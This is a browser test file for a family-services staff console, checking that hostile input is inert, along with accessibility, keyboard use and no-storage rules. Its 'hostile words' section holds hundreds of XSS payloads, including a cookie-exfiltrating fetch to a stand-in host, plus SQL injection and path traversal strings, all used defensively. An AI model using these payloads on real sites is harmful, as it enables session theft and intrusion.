"""The console in a real browser: hostile words, two languages, a phone and a desk, the keyboard."""

from __future__ import annotations

import itertools
import re
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
import pytest_asyncio
from axe_playwright_python.async_playwright import Axe
from playwright.async_api import Browser, Page, expect

from bot.previews import Previews
from bot.services.broadcasts import Draft
from bot.services.permissions import Role
from storage.database import Case, Database
from storage.keyring import Keystore
from storage.shelf import Shelf
from storage.vault import PrivateKey
from tests import real_files
from tests.bot.audiences import Audiences
from tests.bot.offices import hire
from tests.bot.rooms import Provider
from tests.browser.conftest import DESK, Window, open_window
from tests.channels.web_room import served
from tests.conftest import Clock
from tests.flows.test_flow_data import a_set, question
from tests.staff.console_room import ACCOUNT, Room, demonstration, make_room, told_by
from tests.staff.filed import filed_case

pytestmark = [pytest.mark.browser, pytest.mark.slow, pytest.mark.asyncio(loop_scope="session")]

PHONE = {"width": 360, "height": 800}


class Place:
    """A console that is being served, with a case in it."""

    def __init__(self, room: Room, url: str) -> None:
        self.room = room
        self.url = url


@pytest_asyncio.fixture(loop_scope="session")
async def place(
    sqlite_url: str, keystore: Keystore, clock: Clock, tmp_path: Path, vault_key: PrivateKey,
    recovery_key: PrivateKey,
) -> AsyncIterator[Place]:  # fmt: skip
    database = await Database.connect(sqlite_url, keystore)
    keyring = demonstration(tmp_path / "keyring", vault_key, recovery_key)
    room = make_room(database, clock, keyring, organisation_name="Example Families")
    async with served(room.app) as port:
        yield Place(room, f"http://127.0.0.1:{port}/console")
        room.services.rehearsals.close()
    room.services.accounts.close()
    await database.close()


@pytest_asyncio.fixture(loop_scope="session")
async def window(browser: Browser) -> AsyncIterator[Window]:
    window = await open_window(browser, viewport=DESK, locale="en")
    yield window
    await window.context.close()


async def come_in(page: Page, place: Place, role: Role, language: str = "en") -> None:
    """Enter the demonstration."""
    await page.goto(f"{place.url}/sign-in?language={language}")
    await page.locator(f"button[value={role}]").click()
    await expect(page.locator("nav").first).to_be_visible()


async def colleague(place: Place, role: Role) -> object:
    """The person one is in the demonstration, made when somebody first enters."""
    session = await place.room.services.accounts.enter_demonstration(role, "en")
    return session.actor


# ------------------------------------------------------------------------------ hostile words

ACTS = ["alert(1)", "fetch('https://elsewhere.example/'+document.cookie)", "window.hit=1"]
SHAPES = [
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<img src=x onerror={}>", "<svg onload={}>",
    "<svg><script>{}</script></svg>", '"><script>{}</script>', "'><script>{}</script>",
    "</bdi><script>{}</script>", "</textarea><script>{}</script>", "</title><script>{}</script>",
    "--><script>{}</script>", "<iframe srcdoc='<script>{}</script>'>", "<body onload={}>",
    "<a href='javascript:{}'>x</a>", "javascript:{}", "data:text/html,<script>{}</script>",
    "<input autofocus onfocus={}>", "<details open ontoggle={}>", "<video><source onerror={}>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror={}>", "{{{{{}}}}}", "{{% {} %}}",
    "${{{}}}", "<%= {} %>", "<object data='javascript:{}'>", "<embed src='javascript:{}'>",
    "<form action='javascript:{}'><button>x</button></form>",
    "<base href='https://elsewhere.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<link rel=stylesheet href='{}'>",
    "<style>@import 'https://elsewhere.example/{}';</style>",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "&lt;script&gt;{}&lt;/script&gt;", "<p style='background:url(javascript:{})'>",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><script>{}</script>'>",
    "<x onclick={}>x</x>", "<marquee onstart={}>", "<select autofocus onfocus={}>",
    "<isindex x={}>",
]  # fmt: skip
WRAPS = ["{}", "\u202e{}", "x{}y", "{}\n{}"]
PAYLOADS = [
    wrap.replace("{}", shape.format(act))
    for shape, act, wrap in itertools.product(SHAPES, ACTS, WRAPS)
]
NAUGHTY = [
    "\u202egpj.exe", "a\u2066b\u2069c", "\u200b\u200c\u200d\u200e\u200f\ufeff",
    "e" + "\u0301" * 1000,
    "p\u0430ypal", "\U000e0041\U000e0042", "\x00\x07\x1b", "\ud800", "👩‍👩‍👧‍👦",
    "ﷺ" * 50, "\u2028\u2029",
    "=1+1", "'; DROP TABLE cases; --", "../../etc/passwd", "%s%n%x", "null", "NaN", "W" * 3000,
    "محمّد\u200cعلی", "שלום", "الصقيع " * 200,
]  # fmt: skip


def chunks(words: list[str], size: int) -> list[str]:
    """The words, some in each text."""
    return ["\n".join(words[at : at + size]) for at in range(0, len(words), size)]


async def visit_everything(page: Page, place: Place, case: Case, broadcast: str) -> None:
    """Open every page on which a family's or a colleague's words can stand."""
    for path in (
        "/cases", "/tasks", f"/cases/{case.handle}", f"/cases/{case.handle}/follow-up",
        f"/cases/{case.handle}/update", f"/cases/{case.handle}/matching", "/question-sets",
        "/broadcasts", f"/broadcasts/{broadcast}", f"/broadcasts/{broadcast}/edit", "/statistics",
        "/audit", "/staff", "/profile",
    ):  # fmt: skip
        answer = await page.goto(f"{place.url}{path}")
        assert answer is not None
        assert answer.status == 200, path
        await page.evaluate(
            "document.querySelectorAll('details').forEach((one) => one.open = true)"
        )
    await page.goto(f"{place.url}/find")
    await page.get_by_role("textbox").fill("script")
    await page.get_by_role("button", name="Search", exact=True).click()
    await expect(page.locator("article").first).to_be_visible()


async def test_hostile_words_in_every_field_run_nothing_and_reach_nobody(
    window: Window, place: Place
) -> None:
    page, room = window.page, place.room
    me = await colleague(place, "coordinator")
    words = chunks(PAYLOADS, 16)
    case = await room.hostile_case(words, me)  # type: ignore[arg-type]
    for text in chunks(PAYLOADS, 120):
        await room.services.cases.add_note(me, case.handle, text)  # type: ignore[arg-type]
    draft = Draft(PAYLOADS[0][:100], f"كلمات {words[1][:3000]}", words[2][:3000])
    broadcast = await room.services.broadcasts.draft(me, draft)  # type: ignore[arg-type]
    assert len(set(PAYLOADS)) > 450
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: dialogs.append(dialog.message))
    await come_in(page, place, "coordinator")
    await visit_everything(page, place, case, broadcast.handle)
    await page.goto(f"{place.url}/cases/{case.handle}")
    shown = await page.inner_text("main")
    assert "<script>alert(1)</script>" in shown
    assert await page.evaluate("window.hit") is None
    foreign = (
        "main :is(script, img, iframe, object, embed, video, base, meta, link, style, template)"
    )
    assert await page.locator(foreign).count() == 0
    assert dialogs == []
    assert [url for url in window.requests if not url.startswith(place.url)] == []
    assert window.troubles == []


async def test_what_is_hidden_is_shown_and_turns_nothing_around(
    window: Window, place: Place
) -> None:
    page = window.page
    me = await colleague(place, "coordinator")
    case = await place.room.hostile_case(NAUGHTY, me)  # type: ignore[arg-type]
    await come_in(page, place, "coordinator")
    await page.goto(f"{place.url}/cases/{case.handle}")
    marked = page.locator(".hidden-sign", has_text="U+202E").first
    await expect(marked).to_have_attribute("title", "RIGHT-TO-LEFT OVERRIDE")
    assert await page.locator("bdi.told").count() > 20
    assert not re.search("[\u202a-\u202e\u2066-\u2069\ufeff\x00]", await page.inner_text("main"))
    assert await page.locator("main .mixed").count() > 0
    sideways = "document.documentElement.scrollWidth - document.documentElement.clientWidth"
    assert await page.evaluate(sideways) <= 0
    assert window.troubles == []


# ------------------------------------------------------------------- both languages, both sizes


async def serious(page: Page) -> list[str]:
    """What axe finds that is serious or critical."""
    found = (await Axe().run(page)).response["violations"]
    return [
        f"{each['id']}: {[node['html'] for node in each['nodes']][:3]}"
        for each in found
        if each["impact"] in ("serious", "critical")
    ]


@pytest.mark.parametrize("language", ["ar", "en"])
@pytest.mark.parametrize(("size", "scheme"), [(PHONE, "dark"), (DESK, "light")])
async def test_every_page_can_be_used_by_everybody(
    browser: Browser, place: Place, language: str, size: dict[str, int], scheme: str
) -> None:
    window = await open_window(browser, viewport=size, color_scheme=scheme, locale=language)
    page, room = window.page, place.room
    me = await colleague(place, "coordinator")
    case = await room.case(me)  # type: ignore[arg-type]
    await room.task(case)
    await room.case()
    broadcast = await room.services.broadcasts.draft(me, Draft("T", "كلمات", "Words"))  # type: ignore[arg-type]
    await page.goto(f"{place.url}/sign-in?language={language}")
    found = await serious(page)
    await come_in(page, place, "coordinator", language)
    for path in (
        "/cases", "/tasks", "/find", "/numbers", "/locks", f"/cases/{case.handle}",
        f"/cases/{case.handle}/follow-up",
        f"/cases/{case.handle}/update", f"/cases/{case.handle}/matching", "/question-sets",
        "/question-sets/new?copy=check_in", "/broadcasts", "/broadcasts/new",
        f"/broadcasts/{broadcast.handle}", "/statistics", "/book", "/book/consent", "/audit",
        "/staff", "/profile", f"/cases/{'0' * 32}",
    ):  # fmt: skip
        await page.goto(f"{place.url}{path}")
        assert await page.locator("html").get_attribute("dir") == (
            "rtl" if language == "ar" else "ltr"
        )
        wide = "document.documentElement.scrollWidth - document.documentElement.clientWidth"
        assert await page.evaluate(wide) <= 0, path
        await page.evaluate(
            "document.querySelectorAll('details').forEach((one) => one.open = true)"
        )
        twice = await page.evaluate(
            "() => [...document.querySelectorAll('[id]')].map((one) => one.id)"
            ".filter((id, at, all) => all.indexOf(id) !== at)"
        )
        found += [f"{path}: {one}" for one in [*await serious(page), *twice]]
    await window.context.close()
    assert found == []


# ------------------------------------------------------------------------------- the keyboard


async def tab_to(page: Page, name: str, kind: str = "") -> None:
    """Go on by the Tab key until something of this name has the focus."""
    for _step in range(150):
        await page.keyboard.press("Tab")
        reached = await page.evaluate(
            """() => { const one = document.activeElement;
                 const label = one.labels?.[0]?.textContent ?? "";
                 return [one.tagName, (one.ariaLabel ?? "") + one.textContent + label]; }"""
        )
        if name in reached[1] and kind in ("", reached[0]):
            seen = await page.evaluate("getComputedStyle(document.activeElement).outlineStyle")
            assert seen != "none", f"nobody sees that {name} has the focus"
            return
    raise AssertionError(f"the keyboard never reaches {name}")


async def test_a_caseworker_does_a_whole_task_by_the_keyboard(window: Window, place: Place) -> None:
    page = window.page
    case = await place.room.case()
    await page.goto(f"{place.url}/sign-in?language=en")
    await tab_to(page, "Caseworker", "BUTTON")
    await page.keyboard.press("Enter")
    await expect(page).to_have_title("Worklist")
    await tab_to(page, "Take", "BUTTON")
    await page.keyboard.press("Enter")
    await expect(page).to_have_title("Case")
    await tab_to(page, "Add a note", "A")
    await page.keyboard.press("Enter")
    await tab_to(page, "Note", "TEXTAREA")
    await page.keyboard.type("Spoke with her brother")
    await tab_to(page, "I have spoken", "INPUT")
    await page.keyboard.press("Space")
    await tab_to(page, "Keep the note", "BUTTON")
    await page.keyboard.press("Enter")
    await expect(page.get_by_role("status")).to_contain_text("The note is kept")
    await expect(page.locator(".entry.by-staff")).to_contain_text("Spoke with her brother")
    await tab_to(page, "Ask the family", "A")
    await page.keyboard.press("Enter")
    await expect(page).to_have_title("Ask the family")
    await tab_to(page, "New information", "INPUT")
    await page.keyboard.press("Space")
    await tab_to(page, "See it as the family will", "BUTTON")
    await page.keyboard.press("Enter")
    await expect(page.locator(".phone")).to_have_count(2)
    await tab_to(page, "Plan", "BUTTON")
    await page.keyboard.press("Enter")
    await expect(page.get_by_role("status")).to_contain_text("planned")
    assert case.handle in page.url
    assert window.troubles == []


# -------------------------------------------------------------------------- trying a question set


async def test_a_kept_set_is_played_in_arabic_by_the_keyboard_through_its_review(
    browser: Browser, place: Place
) -> None:
    window = await open_window(browser, viewport=PHONE, locale="ar")
    page, follow_ups = window.page, place.room.services.follow_ups
    me = await colleague(place, "caseworker")
    choice, typed = question("choice"), question("text", "q2", ways=["skip"])
    await follow_ups.save_set(me, a_set(choice, typed))  # type: ignore[arg-type]
    await come_in(page, place, "caseworker", "ar")
    await page.goto(f"{place.url}/question-sets")
    row = page.locator("tr", has_text="الباب")
    await row.get_by_role("button", name="تجربة").press("Enter")
    await page.get_by_role("button", name="البدء").press("Enter")
    first = page.locator(".message:last-child .row button").first
    await expect(first).to_be_focused()
    await first.press("Enter")
    answer = page.get_by_role("button", name="أحمر")
    await expect(answer).to_be_focused()
    await answer.press("Enter")
    words = page.get_by_role("textbox")
    await words.fill("رجوع")
    await words.press("Enter")
    await page.get_by_role("button", name="أزرق").press("Enter")
    await words.fill("كلمات مخترعة")
    await words.press("Enter")
    review = page.locator(".message.service", has_text="كلمات مخترعة")
    await expect(review).to_contain_text("أزرق")
    assert await serious(page) == []
    assert await page.locator("html").get_attribute("dir") == "rtl"
    wide = "document.documentElement.scrollWidth - document.documentElement.clientWidth"
    assert await page.evaluate(wide) <= 0
    await review.locator(".row button").first.press("Enter")
    await expect(page.locator(".message.service").last).to_contain_text("انتهت التجربة")
    assert await page.evaluate("document.cookie.length + localStorage.length") == 0
    assert [cookie["name"] for cookie in await window.context.cookies()] == ["__Host-athar"]
    assert [url for url in window.requests if not url.startswith(place.url)] == []
    assert window.troubles == []
    await window.context.close()


async def test_a_draft_is_tried_before_it_is_kept_and_is_still_there_after(
    window: Window, place: Place
) -> None:
    page = window.page
    await come_in(page, place, "caseworker")
    await page.goto(f"{place.url}/question-sets/new?copy=new_info")
    await page.locator("[name='title.en']").fill("Tried first")
    await page.get_by_role("button", name="Try it in the chat").click()
    await page.get_by_role("button", name="Start").click()
    await expect(page.locator(".message.service")).to_contain_text("Example Families")
    await page.get_by_role("link", name="Back").click()
    await expect(page.locator("[name='title.en']")).to_have_value("Tried first")
    assert window.troubles == []


# ---------------------------------------------------------------------------------- live parts


async def test_the_index_opens_with_progress_and_then_searches(
    window: Window, place: Place
) -> None:
    page = window.page
    me = await colleague(place, "coordinator")
    await place.room.hostile_case("Zaynab of the orchard", me)  # type: ignore[arg-type]
    await come_in(page, place, "coordinator")
    await page.goto(f"{place.url}/find")
    await expect(page.locator("progress")).to_be_hidden()
    await page.get_by_role("textbox").fill("zaynab")
    await page.keyboard.press("Enter")
    await expect(page.locator("mark").first).to_have_text("Zaynab")
    assert page.url == f"{place.url}/find"
    assert "zaynab" not in " ".join(window.requests)


async def test_a_broadcast_is_watched_paused_and_cancelled_live(
    window: Window, place: Place
) -> None:
    page, room = window.page, place.room
    broadcasts = room.services.broadcasts
    offices = [await hire(room.database, room.clock(), "coordinator", name) for name in "AB"]
    house = Audiences(room.database, room.clock, *offices, broadcasts)  # type: ignore[arg-type]
    provider = Provider()
    provider.account = ACCOUNT[1]
    await come_in(page, place, "coordinator")
    await house.families(4, account=ACCOUNT)
    first = await house.approved()
    await page.goto(f"{place.url}/broadcasts/{first.handle}")
    opened_once = "window.stillThisPage = true"
    await page.evaluate(opened_once)
    far = page.locator("section", has=page.locator("#far"))
    await broadcasts.pump()
    await expect(far.locator("[data-live=put]")).to_have_text("4")
    async with house.delivering(provider, rests=lambda _now, _zone, _hours: None):
        await expect(far.locator("[data-live=sent]")).to_have_text("4")
        await expect(far.locator("[data-live=put]")).to_have_text("0")
        assert await page.evaluate("window.stillThisPage")
        await broadcasts.pump()
        await expect(page.locator(".badge").first).to_contain_text("done")

        second = await house.approved(title="Second")
        await page.goto(f"{place.url}/broadcasts/{second.handle}")
        await page.get_by_role("button", name="Pause", exact=True).click()
        await expect(page.locator(".badge").first).to_contain_text("paused")
        await broadcasts.pump()
        await page.get_by_role("button", name="Resume").click()
        await expect(page.locator(".badge").first).to_contain_text("goes out")
        await page.evaluate(opened_once)
        await page.locator("summary", has_text="Cancel").click()
        await page.get_by_role("button", name="Cancel this broadcast").click()
        await expect(page.locator(".badge").first).to_contain_text("cancelled")
        await broadcasts.pump()
    assert len(provider.sent) == 4
    progress = await broadcasts.progress(offices[0], second.handle)
    assert (progress.sent, progress.put, progress.queued) == (0, 0, 0)
    assert window.troubles == []


async def test_a_page_that_rests_covers_itself(window: Window, place: Place) -> None:
    page = window.page
    me = await colleague(place, "coordinator")
    case = await place.room.hostile_case("Zaynab of the orchard", me)  # type: ignore[arg-type]
    await page.clock.install()
    await come_in(page, place, "coordinator")
    await page.goto(f"{place.url}/cases/{case.handle}")
    await page.clock.run_for(9 * 60_000 + 2_000)
    await expect(page.locator("#rest")).to_be_visible()
    await page.keyboard.press("Shift")
    await expect(page.locator("#rest")).to_be_hidden()
    await page.clock.run_for(10 * 60_000 + 2_000)
    await expect(page.locator("#cover")).to_be_visible()
    assert "Zaynab" not in await page.content()


async def test_nothing_is_kept_in_the_browser(window: Window, place: Place) -> None:
    page = window.page
    me = await colleague(place, "coordinator")
    case = await place.room.case(me)  # type: ignore[arg-type]
    await come_in(page, place, "coordinator")
    await page.goto(f"{place.url}/cases/{case.handle}")
    kept = "localStorage.length + sessionStorage.length + document.cookie.length"
    assert await page.evaluate(kept) == 0
    assert await page.evaluate("indexedDB.databases().then((all) => all.length)") == 0
    assert [cookie["httpOnly"] for cookie in await window.context.cookies()] == [True]
    assert [cookie["name"] for cookie in await window.context.cookies()] == ["__Host-athar"]


async def test_everything_works_without_the_script(browser: Browser, place: Place) -> None:
    window = await open_window(browser, viewport=PHONE, locale="en", java_script_enabled=False)
    page = window.page
    await place.room.case()
    await come_in(page, place, "caseworker")
    await page.get_by_role("button", name=re.compile("^Take")).click()
    await page.get_by_label("Note", exact=True).fill("Written without a script")
    await page.get_by_role("button", name="Keep the note").click()
    await expect(page.locator(".entry.by-staff")).to_contain_text("Written without a script")
    await page.goto(f"{place.url}/find")
    await page.get_by_label("Names, places").fill("Written")
    await page.get_by_role("button", name="Search", exact=True).click()
    await expect(page.locator("article")).to_have_count(1)
    await window.context.close()


async def test_a_familys_picture_is_seen_without_its_place_its_voice_plays_and_papers_are_saved(
    window: Window, place: Place
) -> None:
    """Real files through a real browser: a JPEG with GPS, Opus in Ogg, and a paper."""
    room, page = place.room, window.page
    sent = {
        "house.jpg": ("photo", real_files.jpeg_with_gps()),
        "voice.oga": ("voice", real_files.voice()),
        "paper.pdf": ("document", real_files.pdf()),
    }
    room.services.files._previews = Previews(within=120.0)
    shelf, now = Shelf(room.settings.attachments_dir), room.clock()
    case, handles = await filed_case(room.database, shelf, told_by(7, now), now, sent)
    await come_in(page, place, "coordinator")
    at = f"{place.url}/cases/{case.handle}"
    async with page.expect_response(re.compile("/picture$")) as waiting:
        await page.goto(f"{at}#f{handles['house.jpg']}")
        await page.locator(".files img").scroll_into_view_if_needed()
    copy = await (await waiting.value).body()
    assert real_files.MARK.encode() not in copy
    assert b"Exif" not in copy
    picture = page.locator(".files img")
    await expect(picture).to_have_js_property("naturalWidth", 480)
    seconds = await page.locator(".files audio").evaluate(
        "audio => new Promise((done, failed) => {"
        " audio.onloadedmetadata = () => done(audio.duration);"
        " audio.onerror = () => failed(audio.error.message);"
        " audio.preload = 'auto'; audio.load(); })"
    )
    assert 0.9 < seconds < 1.1
    async with page.expect_download() as saving:
        await page.locator(f"#f{handles['paper.pdf']} a[download]").click()
    saved = await saving.value
    assert saved.suggested_filename == "paper.pdf"
